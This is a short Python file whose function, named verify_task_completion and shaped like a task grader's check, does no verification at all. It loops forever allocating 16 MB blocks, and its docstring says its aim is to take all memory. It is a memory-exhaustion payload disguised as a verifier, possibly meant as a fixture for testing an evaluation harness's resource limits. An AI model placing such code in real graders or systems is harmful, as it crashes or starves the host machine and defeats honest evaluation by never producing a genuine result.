"""Take all memory, small piece by small piece."""


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    hoard = []
    while True:
        hoard.append(bytearray(16 * 1024 * 1024))
